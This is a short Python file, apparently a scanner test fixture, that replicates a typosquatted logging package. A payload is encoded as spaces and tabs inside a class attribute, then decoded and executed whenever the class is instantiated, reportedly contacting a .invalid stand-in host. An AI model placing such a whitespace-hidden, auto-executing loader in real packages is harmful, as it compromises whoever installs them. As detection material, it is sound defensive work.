# Defanged replica of the loquru typosquat: the stage is spelled in bits
# by a literal of spaces and tabs (space 0, tab 1), decoded by a method and
# compiled when the logger is built. The host is .invalid.
import types


class Core:
    singleton = " 		 	  	 		 		 	 			     		 				 			  	  			 	    	      			 	 	 			  	  		 		   		 		   		 	  	 		   	   	 			  			  	  		  	 	 			   	 			 	 	 		  	 	 			  		 			 	      	 	  		  	 	 				    		  	 	 		   		  	 	    			 	 	 			  	  		 		   		 		   		 	  	 		   	   	 			  			  	  		  	 	 			   	 			 	 	 		  	 	 			  		 			 	    	 			  			 	 	 			  	  		 		   		 				 			     		  	 	 		 			   	 	     	  			 		 	    			 	   			 	   			     			  		  			 	   	 				  	 				 			  		 			 	   		    	 		  			 		  	 	  	 			  		  	 	 				    		    	 		 		 	 			     		 		   		  	 	  	 			  		 	  	 		 			  			 		  		    	 		 		   		 	  	 		  	    	 				 			 		   	  			  	 	  	  	 			  			  	  		  	 	 		    	 		  	    	 	     	 	  	  	 	  	    	 	 "  # expect: HS102 critical

    def _entity(self):
        bits = self.singleton.replace(" ", "0").replace("\t", "1")
        return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode()

    def __init__(self):
        types.FunctionType(compile(self._entity(), "<v>", "exec"), globals())()
